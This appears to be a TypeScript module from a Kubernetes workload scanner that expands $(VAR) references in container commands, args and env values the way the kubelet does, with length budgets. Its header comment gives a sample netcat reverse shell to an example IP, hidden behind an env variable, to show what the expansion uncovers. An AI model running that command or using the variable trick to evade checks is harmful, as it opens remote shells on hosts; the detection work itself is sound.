/**
 * Kubernetes' `$(VAR_NAME)` expansion, as the kubelet applies it to a container's `command` and
 * `args` (and to each env value, from the variables defined before it), so the workload fields
 * read what will run, not its template: `env: [{name: P, value: 'nc -e /bin/sh 203.0.113.7 4444'}]`
 * with `command: ['sh', '-c', '$(P)']` runs the reverse shell, though no command word spells it.
 *
 * The syntax is that of k8s.io/kubernetes third_party/forked/golang/expansion: `$(NAME)` is the
 * variable's value when the mapping knows it, else stays as written; `$$` is one `$` (so
 * `$$(NAME)` is the literal `$(NAME)`); a `$` before anything else, or a `$(` never closed, stays.
 * Only literal `value`s are known here: a `valueFrom` (a secret, a field) or an `envFrom` has no
 * value in the request, so its references stay `$(NAME)`. Lifecycle hooks and probes are not
 * expanded by the kubelet, nor here.
 *
 * Bounded: MAX_EXPANDED characters per expanded string (a value built from values can double at
 * each step), MAX_VARS variables per container, and an ExpansionBudget of MAX_EVENT_EXPANDED
 * characters per event across its containers (past it, strings stay as written). Never throws.
 */

/** Characters an expanded string keeps (the shell reading keeps fewer: shell-script.ts MAX_SCRIPT_CHARS). */
export const MAX_EXPANDED = 16 * 1024;
/** Variables read per container. */
export const MAX_VARS = 1024;
/** Characters all expansions of one event may produce (a 16 KiB body can otherwise ask for hundreds of MAX_EXPANDED values). */
export const MAX_EVENT_EXPANDED = 256 * 1024;

/** What is left of one event's expansion characters. */
export interface ExpansionBudget {
  chars: number;
}

export function expansionBudget(): ExpansionBudget {
  return { chars: MAX_EVENT_EXPANDED };
}

/**
 * `input` with its `$(NAME)` references replaced through `lookup`, cut at MAX_EXPANDED characters;
 * as written (cut so) when `budget` is spent, which the expansion's length is taken from.
 */
export function expandVars(input: string, lookup: ReadonlyMap<string, string>, budget: ExpansionBudget = expansionBudget()): string {
  if (input.indexOf('$') < 0 || budget.chars <= 0) return input.length > MAX_EXPANDED ? input.slice(0, MAX_EXPANDED) : input;
  let out = '';
  let from = 0;
  for (let i = 0; i < input.length - 1 && out.length < MAX_EXPANDED; i++) {
    if (input.charCodeAt(i) !== 0x24) continue;
    out += input.slice(from, i);
    const next = input[i + 1];
    if (next === '$') {
      out += '$';
      i += 1;
    } else if (next === '(') {
      const close = input.indexOf(')', i + 2);
      if (close < 0) {
        out += '$(';
        i += 1;
      } else {
        const name = input.slice(i + 2, close);
        out += lookup.get(name) ?? `$(${name})`;
        i = close;
      }
    } else {
      out += `$${next}`;
      i += 1;
    }
    from = i + 1;
  }
  if (from < input.length) out += input.slice(from);
  if (out.length > MAX_EXPANDED) out = out.slice(0, MAX_EXPANDED);
  budget.chars -= out.length;
  return out;
}

/**
 * A container's variables with literal values, each expanded from those before it (a later
 * definition of a name replaces an earlier one). `env`: the container's `env` as the body holds it;
 * `each(name, value)` is told every literal variable in order, expanded; `budget`: the event's.
 */
export function containerVars(env: unknown, each?: (name: string, value: string) => void, budget: ExpansionBudget = expansionBudget()): Map<string, string> {
  const vars = new Map<string, string>();
  if (!Array.isArray(env)) return vars;
  for (let i = 0; i < env.length && i < MAX_VARS; i++) {
    const v: unknown = env[i];
    if (v === null || typeof v !== 'object') continue;
    const { name, value } = v as { name?: unknown; value?: unknown };
    if (typeof name !== 'string') continue;
    if (typeof value === 'string') {
      const expanded = expandVars(value, vars, budget);
      vars.set(name, expanded);
      each?.(name, expanded);
    }
    // A valueFrom: its value is not in the request; an earlier literal of that name no longer holds.
    else vars.delete(name);
  }
  return vars;
}
